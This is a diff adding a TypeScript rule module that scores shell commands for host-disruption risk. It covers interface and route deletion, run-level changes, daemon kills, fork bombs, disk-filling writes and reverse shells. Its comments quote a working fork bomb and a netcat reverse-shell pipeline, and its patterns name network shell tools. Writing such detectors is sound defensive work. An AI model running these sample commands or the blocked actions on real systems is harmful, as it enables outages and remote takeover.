@@ -1,0 +1,176 @@
+/**
+ * The host or its network taken down (docs/risk.md, "The host taken down"): interfaces brought
+ * down or deleted, routes and addresses flushed, NetworkManager switched off, run levels that
+ * stop or reboot the machine, daemons killed by name — critical or high; their listing forms
+ * add nothing. Also resource bombs (a fork bomb, endless writes filling the disk) and reverse
+ * shells (a shell wired to a network program in one pipeline, interpreter code connecting a
+ * socket to a shell).
+ */
+import type { Rule, RuleContext, RuleTable } from "../command/rule.js";
+import type { ShellScript } from "../shell-model.js";
+import type { Signals } from "../signals.js";
+import { resolveInvocation, SHELLS } from "../wrappers.js";
+
+const down = (signals: Signals, what: string) =>
+  signals.score.raise("critical", `${what}: takes the host or its network down`, "system_modification");
+
+const IP_OBJECTS: [RegExp, string][] = [
+  [/^(l|li|lin|link)$/, "link"],
+  [/^(a|ad|add|addr|addre|addres|address)$/, "address"],
+  [/^(r|ro|rou|rout|route)$/, "route"],
+  [/^(n|ne|nei|neig|neigh|neighbor|neighbour)$/, "neigh"],
+  [/^(ru|rule)$/, "rule"],
+];
+
+/** `ip OBJECT COMMAND …` (both abbreviated as ip accepts them). */
+const ip: Rule = (invocation, { signals }) => {
+  const words = invocation.args.map((word) => word.value).filter((value) => !value.startsWith("-"));
+  const object = IP_OBJECTS.find(([pattern]) => pattern.test(words[0] ?? ""))?.[1] ?? words[0] ?? "";
+  const command = words[1] ?? "show";
+  if (
+    /^(s|sh|sho|show|l|ls|lst|list|g|ge|get|mon|monitor)$/.test(command) &&
+    !(object === "link" && command === "s")
+  )
+    return void signals.score.raise("none", "");
+  const rest = words.slice(2);
+  if (
+    (object === "link" && (/^(d|del|dele|delete)$/.test(command) || rest.includes("down"))) ||
+    /^(d|del|dele|delete|f|fl|flu|flus|flush)$/.test(command)
+  )
+    return down(signals, `ip ${object} ${command}`);
+  signals.score.raise(
+    "high",
+    `ip ${object} ${command} changes the network configuration`,
+    "system_modification",
+  );
+};
+
+const ifconfig: Rule = (invocation, { signals }) => {
+  const words = invocation.args.map((word) => word.value).filter((value) => !value.startsWith("-"));
+  if (words.includes("down")) return down(signals, `ifconfig ${words[0] ?? ""} down`);
+  if (words.length <= 1) return void signals.score.raise("none", "");
+  signals.score.raise("high", "ifconfig changes an interface", "system_modification");
+};
+
+const nmcli: Rule = (invocation, { signals }) => {
+  const words = invocation.args.map((word) => word.value).filter((value) => !value.startsWith("-"));
+  const action = words[1] ?? "";
+  if (
+    /^(down|del|delete|disconnect|off)$/.test(action) ||
+    (/^(n|networking|r|radio)/.test(words[0] ?? "") && words.includes("off"))
+  )
+    return down(signals, `nmcli ${words.slice(0, 2).join(" ")}`);
+  if (words.length <= 1 || /^(show|s|status|list|l)$/.test(action))
+    return void signals.score.raise("none", "");
+  signals.score.raise("medium", `nmcli ${words.slice(0, 2).join(" ")} changes a network connection`);
+};
+
+/** `init N`/`telinit N`: 0 halts, 6 reboots, 1/S drops to single user; q reloads. */
+const runlevel: Rule = (invocation, { signals }) => {
+  const level = invocation.args.find((word) => !word.value.startsWith("-"))?.value ?? "";
+  if (/^[0156sS]$|^emergency$/.test(level)) return down(signals, `${invocation.program} ${level}`);
+  signals.score.raise(
+    /^[qQuU]$/.test(level) ? "medium" : "critical",
+    `${invocation.program} ${level} changes the run level`,
+    "system_modification",
+  );
+};
+
+export const HOST_RULES: RuleTable = {
+  ip,
+  ifconfig,
+  nmcli,
+  ifdown: (invocation, { signals }) =>
+    down(signals, `ifdown ${invocation.args.map((word) => word.value).join(" ")}`),
+  init: runlevel,
+  telinit: runlevel,
+};
+
+/** Daemons by name (`killall -9 postgres`, `pkill mysqld`): a service of the host stops. */
+const DAEMON =
+  /^([a-z][\w-]*d|postgres|postmaster|nginx|apache2|mysql|mariadb|redis-server|mongod|memcached|haproxy|kubelet|etcd|docker|containerd|networkmanager|php-fpm|supervisord|elasticsearch|rabbitmq-server|consul|nomad|vault)$/i;
+/** Names ending in `d` that are not daemons. */
+const NOT_DAEMON = /^(node|bund|grind|wind|find|vid|cmd|pwd|sed|ld|ssd|build|fd|rand|watchd?)$/;
+
+export function killsDaemon(names: string[]): string | null {
+  return names.find((name) => DAEMON.test(name) && !NOT_DAEMON.test(name)) ?? null;
+}
+
+/** `:(){ :|:& };:` — a function that pipes itself into itself in the background. */
+export function forkBomb(text: string): boolean {
+  if (!text.includes("()") || !text.includes("&")) return false;
+  for (const match of text.matchAll(/([\w:.-]+)\s*\(\)\s*\{([^}]*)\}/g)) {
+    const name = match[1]!.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
+    if (new RegExp(`(^|[\\s;{(])${name}\\s*\\|\\s*${name}[\\s;&]`).test(match[2]!) && match[2]!.includes("&"))
+      return true;
+  }
+  return false;
+}
+
+/** Interpreter code connecting a socket and handing it a shell, or forking without end. */
+export function judgeCodeHazards(code: string, signals: Signals): void {
+  if (
+    /(socket|fsockopen|TCPSocket|IO::Socket|net\.connect|new Socket|Net::TCP|stream_socket_client)/i.test(
+      code,
+    ) &&
+    /(\/bin\/(ba|z|da)?sh\b|\bsh\s+-i|dup2|subprocess|\bexec\s*[("'\s]|spawn|system\s*\(|popen|proc_open|cmd\.exe|powershell)/i.test(
+      code,
+    )
+  )
+    signals.score.raise(
+      "critical",
+      "the code connects a socket to a shell (a reverse shell)",
+      "network_request",
+    );
+  if (
+    /\bfork\b[^\n]*\bwhile\b|\bwhile\b[^\n]*\n?[^\n]*\bfork\s*\(|fork\s+while\s+fork|for\s*\(\s*;\s*;\s*\)\s*\{?\s*fork/i.test(
+      code,
+    )
+  )
+    signals.score.raise("high", "the code forks processes without end (a fork bomb)");
+}
+
+/**
+ * Pipelines that make a reverse shell (`cat /tmp/f | sh -i 2>&1 | nc host 4242 > /tmp/f`): an
+ * interactive shell and a network program in one pipeline. Endless writes to a file (`yes >
+ * f`, `cat /dev/urandom > f`, `dd if=/dev/zero of=f` without `count=`) fill the disk.
+ */
+export function judgeLineHazards(script: ShellScript, context: RuleContext): void {
+  const { signals } = context;
+  const pipelines = new Map<number, string[]>();
+  for (const command of script.commands) {
+    const invocation = resolveInvocation(command);
+    const list = pipelines.get(command.pipeline) ?? [];
+    list.push(invocation.program);
+    pipelines.set(command.pipeline, list);
+    const args = invocation.args.map((word) => word.value);
+    const toFile = command.redirects.some(
+      (redirect) =>
+        redirect.op.includes(">") &&
+        redirect.target &&
+        !/^(\/dev\/null|&?\d*-?)$/.test(redirect.target.value),
+    );
+    const endless =
+      (invocation.program === "yes" && command.position === command.pipelineLength - 1 && toFile) ||
+      (invocation.program === "cat" &&
+        args.some((value) => /^\/dev\/(u?random|zero)$/.test(value)) &&
+        toFile &&
+        command.position === command.pipelineLength - 1) ||
+      (invocation.program === "dd" &&
+        args.some((value) => /^if=\/dev\/(u?random|zero)$/.test(value)) &&
+        args.some((value) => /^of=(?!\/dev\/)/.test(value)) &&
+        !args.some((value) => /^count=/.test(value)));
+    if (endless) signals.score.raise("high", `${invocation.program} writes without end (fills the disk)`);
+  }
+  for (const programs of pipelines.values()) {
+    if (programs.length < 2) continue;
+    const shell = programs.some((program) => SHELLS.has(program));
+    const net = programs.some((program) => /^(nc|ncat|netcat|telnet|socat|openssl|cryptcat)$/.test(program));
+    if (shell && net)
+      signals.score.raise(
+        "critical",
+        "a shell wired to a network program in one pipeline (a reverse shell)",
+        "network_request",
+      );
+  }
+}
